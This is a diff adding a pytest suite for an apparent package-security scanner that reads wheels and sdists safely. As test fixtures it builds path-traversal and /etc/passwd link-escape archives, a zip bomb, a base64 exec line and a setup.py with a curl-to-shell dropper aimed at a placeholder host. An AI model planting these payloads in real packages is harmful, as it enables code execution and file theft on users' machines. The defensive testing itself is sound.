@@ -1,0 +1,208 @@
+"""The safe archive reader: hostile structure becomes issues or 'could not inspect', never a crash."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from jupyter_safepip.core import archive
+from jupyter_safepip.core.archive import ArchiveUnreadable, read_archive
+from jupyter_safepip.core.checks.archive import name_from_filename, scan_archive, scan_directory, scan_paths, ScanPathError
+from jupyter_safepip.core.model import Severity
+from tests.support.archives import make_sdist, make_wheel, severity
+
+
+def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
+    with tarfile.open(path, "w:gz") as out:
+        for info, data in members:
+            info.size = len(data) if info.isfile() else 0
+            out.addfile(info, io.BytesIO(data) if info.isfile() else None)
+    return path
+
+
+def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = link
+    return info
+
+
+def _issues(path: Path) -> set[str]:
+    return {i.kind for i in read_archive(path, lambda n: True).issues}
+
+
+def test_reads_wheel_and_sdist_members_in_memory(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, {"demo/__init__.py": "x = 1\n"})
+    contents = read_archive(wheel, lambda n: n.endswith(".py"))
+    init = next(m for m in contents.members if m.name == "demo/__init__.py")
+    assert init.data == b"x = 1\n" and init.complete
+    sdist = make_sdist(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n"})
+    assert any(m.name == "demo-1.0/setup.py" and m.complete for m in read_archive(sdist, lambda n: True).members)
+    assert set(tmp_path.iterdir()) == {wheel, sdist}  # nothing was extracted next to them
+
+
+def test_unwanted_members_keep_only_their_head(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, {"demo/data.bin": b"\x00" * 10_000})
+    member = next(m for m in read_archive(wheel, lambda n: n.endswith(".py")).members if m.name == "demo/data.bin")
+    assert len(member.data) == archive.HEAD_BYTES and not member.complete and member.size == 10_000
+
+
+@pytest.mark.parametrize(
+    ("name", "kind", "link", "issue"),
+    [
+        ("../evil.py", tarfile.REGTYPE, "", "archive-path-traversal"),
+        ("/etc/evil.py", tarfile.REGTYPE, "", "archive-path-traversal"),
+        ("demo-1.0/link", tarfile.SYMTYPE, "../../../../etc/passwd", "archive-link-escape"),
+        ("demo-1.0/abs", tarfile.SYMTYPE, "/etc/passwd", "archive-link-escape"),
+        ("demo-1.0/hard", tarfile.LNKTYPE, "/etc/shadow", "archive-link-escape"),
+        ("demo-1.0/README", tarfile.SYMTYPE, "README.md", "archive-link"),
+        ("demo-1.0/dev", tarfile.CHRTYPE, "", "archive-special-file"),
+        ("demo-1.0/fifo", tarfile.FIFOTYPE, "", "archive-special-file"),
+    ],
+)
+def test_hostile_tar_members_become_issues(tmp_path: Path, name: str, kind: bytes, link: str, issue: str) -> None:
+    path = _tar(tmp_path / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n"), (_info(name, kind, link), b"")])
+    assert issue in _issues(path)
+
+
+def test_benign_tar_has_no_issues(tmp_path: Path) -> None:
+    path = _tar(tmp_path / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n"), (_info("demo-1.0/a/b.py"), b"")])
+    assert _issues(path) == set()
+
+
+def test_zip_traversal_duplicates_and_symlinks(tmp_path: Path) -> None:
+    path = tmp_path / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w") as out, pytest.warns(UserWarning):
+        out.writestr("../../outside.py", "x = 1")
+        out.writestr("demo/a.py", "x = 1")
+        out.writestr("demo/a.py", "x = 2")
+        link = zipfile.ZipInfo("demo/link")
+        link.external_attr = (0o120777 << 16)
+        out.writestr(link, "/etc/passwd")
+    assert {"archive-path-traversal", "archive-duplicate-name", "archive-link-escape"} <= _issues(path)
+
+
+def test_zip_bomb_is_not_inflated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(archive, "RATIO_MIN_BYTES", 1024)
+    path = tmp_path / "bomb-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        out.writestr("bomb/zeros.py", b"\x00" * 5_000_000)
+    contents = read_archive(path, lambda n: True)
+    assert "archive-bomb" in {i.kind for i in contents.issues}
+    assert contents.bytes_read < 1_000_000
+
+
+def test_total_size_limit_stops_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(archive, "MAX_TOTAL_BYTES", 50_000)
+    path = make_sdist(tmp_path, {f"m{i}.py": "x = 1\n" * 2000 for i in range(20)})
+    contents = read_archive(path, lambda n: True)
+    assert contents.incomplete and contents.bytes_read <= 50_000 + archive.MAX_MEMBER_BYTES
+
+
+def test_member_count_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(archive, "MAX_MEMBERS", 10)
+    path = make_wheel(tmp_path, {f"demo/m{i}.py": "" for i in range(30)})
+    contents = read_archive(path, lambda n: True)
+    assert len(contents.members) <= 10 and "archive-too-many-members" in {i.kind for i in contents.issues}
+    scan = scan_archive(path)
+    assert scan.errors and "partly inspected" in scan.errors[0].reason
+
+
+def test_nested_archive_is_inspected(tmp_path: Path) -> None:
+    inner = make_sdist(tmp_path, {"demo/__init__.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"}, name="inner")
+    outer = make_wheel(tmp_path, {"demo/vendor/inner-1.0.tar.gz": inner.read_bytes()})
+    scan = scan_archive(outer)
+    assert severity(scan, "obfuscation-exec-decoded") is not None
+    assert any("!" in e.location for f in scan.findings for e in f.evidence)
+
+
+def test_corrupt_and_encrypted_archives_could_not_be_inspected(tmp_path: Path) -> None:
+    garbage = tmp_path / "demo-1.0.tar.gz"
+    garbage.write_bytes(b"\x1f\x8b" + b"not really gzip" * 10)
+    scan = scan_archive(garbage)
+    assert scan.errors and scan.errors[0].reason.startswith("could not inspect") and not scan.findings
+    wheel = make_wheel(tmp_path, {"demo/a.py": "x = 1\n"})
+    data = bytearray(wheel.read_bytes())
+    # Set the "encrypted" flag bit in every local and central header.
+    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = 0
+        while (start := data.find(signature, start)) != -1:
+            data[start + offset] |= 1
+            start += 4
+    wheel.write_bytes(bytes(data))
+    scan = scan_archive(wheel)
+    assert scan.errors and "encrypted" in scan.errors[0].reason
+
+
+def test_renamed_wheel_is_read_by_content(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, {"demo/a.py": "exec(__import__('base64').b64decode('eA=='))\n"})
+    renamed = wheel.rename(tmp_path / "demo-1.0-py3-none-any.tar.gz")
+    assert severity(scan_archive(renamed), "obfuscation-exec-decoded") is not None
+
+
+def test_names_from_filenames() -> None:
+    assert name_from_filename("My_Pkg-1.0.tar.gz") == "my-pkg"
+    assert name_from_filename("my_pkg-1.0-py3-none-any.whl") == "my-pkg"
+
+
+def test_scan_directory_and_paths(tmp_path: Path) -> None:
+    tree = tmp_path / "proj"
+    (tree / "pkg").mkdir(parents=True)
+    (tree / "setup.py").write_text("import os\nos.system('curl http://x.invalid/a | sh')\n")
+    (tree / "pkg" / "__init__.py").write_text("")
+    scan = scan_directory(tree)
+    assert severity(scan, "shell-dropper-command") is Severity.CRITICAL
+    assert scan.files_scanned == 2
+    results = scan_paths([tree])
+    assert results[0][0] == tree
+    with pytest.raises(ScanPathError):
+        scan_paths([tmp_path / "missing"])
+
+
+# Property tests: random bytes and mutated real archives never raise, and the limits hold.
+
+_SMALL_LIMITS = {"MAX_MEMBERS": 50, "MAX_TOTAL_BYTES": 200_000, "MAX_MEMBER_BYTES": 100_000}
+
+
+def _seed_archives(tmp_path: Path) -> list[bytes]:
+    files = {"setup.py": "import os\nos.system('echo hi')\n", "demo/__init__.py": "x = 1\n" * 50}
+    return [make_sdist(tmp_path, files).read_bytes(), make_wheel(tmp_path, files).read_bytes()]
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_mutated_archives_never_crash(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: st.DataObject) -> None:
+    for name, value in _SMALL_LIMITS.items():
+        monkeypatch.setattr(archive, name, value)
+    seed = bytearray(data.draw(st.sampled_from(_seed_archives(tmp_path))))
+    for _ in range(data.draw(st.integers(1, 8))):
+        position = data.draw(st.integers(0, len(seed) - 1))
+        seed[position] = data.draw(st.integers(0, 255))
+    if data.draw(st.booleans()):
+        seed = seed[: data.draw(st.integers(0, len(seed)))]
+    path = tmp_path / data.draw(st.sampled_from(["x-1.0.tar.gz", "x-1.0-py3-none-any.whl", "x-1.0.zip"]))
+    path.write_bytes(bytes(seed))
+    try:
+        contents = read_archive(path, lambda n: True)
+    except ArchiveUnreadable:
+        contents = None
+    if contents is not None:
+        assert len(contents.members) <= archive.MAX_MEMBERS
+        assert all(len(m.data) <= archive.MAX_MEMBER_BYTES for m in contents.members)
+    scan = scan_archive(path)
+    assert scan.findings or scan.errors or scan.files_scanned >= 0
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(blob=st.binary(max_size=2048), suffix=st.sampled_from([".tar.gz", ".whl", ".zip", ".tar.bz2", ".egg"]))
+def test_random_bytes_never_crash(tmp_path: Path, blob: bytes, suffix: str) -> None:
+    path = tmp_path / f"rand-1.0{suffix}"
+    path.write_bytes(blob)
+    scan = scan_archive(path)
+    assert isinstance(scan.files_scanned, int) and scan.bytes_scanned <= len(blob) * 2000 + 10_000
